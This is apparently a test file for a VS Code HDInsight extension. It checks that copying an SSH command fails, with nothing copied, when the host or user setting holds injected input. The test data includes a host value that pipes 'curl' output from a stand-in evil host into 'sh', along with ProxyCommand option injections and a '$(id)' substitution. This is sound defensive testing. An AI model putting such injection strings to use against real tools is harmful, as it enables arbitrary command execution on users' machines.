import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { activateExtension, updateSetting } from './helpers';

const copy = (arg: Record<string, unknown>): Promise<{ command: string }> =>
  Promise.resolve(vscode.commands.executeCommand<{ command: string }>('hdinsight.copySshCommand', arg));

describe('Copy SSH Command with a tampered setting or argument', () => {
  afterEach(() => updateSetting('linkedClusters', undefined));

  it('copies nothing when the SSH host or user would add commands or ssh options', async () => {
    await activateExtension();
    await vscode.env.clipboard.writeText('what was copied before');
    const hostile: { sshHost: string; user?: string; error: RegExp }[] = [
      {
        sshHost: 'edge.example.com; curl https://evil.example/x | sh',
        error:
          /^The SSH host of tampered, "edge\.example\.com; curl https:\/\/evil\.example\/x \| sh", is not a host name or IP address; nothing was copied\.$/,
      },
      {
        sshHost: '-oProxyCommand=touch /tmp/pwned',
        error: /^The SSH host of tampered, "-oProxyCommand=touch \/tmp\/pwned", is not a host name/,
      },
      {
        sshHost: 'edge.example.com',
        user: '-oProxyCommand=sh -c id',
        error: /^The SSH user "-oProxyCommand=sh -c id" is not a user name; nothing was copied\.$/,
      },
      { sshHost: 'edge.example.com', user: 'me$(id)', error: /^The SSH user "me\$\(id\)" is not a user name/ },
    ];
    for (const { sshHost, user, error } of hostile) {
      await updateSetting('linkedClusters', [{ name: 'tampered', kafkaBootstrap: 'localhost:9092', sshHost }]);
      await assert.rejects(copy({ cluster: 'tampered', ...(user ? { user } : {}) }), (err: Error & { action?: string }) => {
        assert.match(err.message, error);
        assert.match(err.action ?? '', user ? /letters, digits/ : /Correct its sshHost in the setting hdinsight\.linkedClusters/);
        return true;
      });
      assert.equal(await vscode.env.clipboard.readText(), 'what was copied before', `nothing was copied for ${sshHost} ${user ?? ''}`);
    }
  });

  it('copies an ordinary command as before', async () => {
    await activateExtension();
    await updateSetting('linkedClusters', [
      { name: 'edge', kafkaBootstrap: 'localhost:9092', sshHost: 'edge01.example.com', sshPort: 2222 },
    ]);
    const { command } = await copy({ cluster: 'edge', user: 'j.doe' });
    assert.equal(command, 'ssh -p 2222 j.doe@edge01.example.com');
    assert.equal(await vscode.env.clipboard.readText(), command);
  });
});
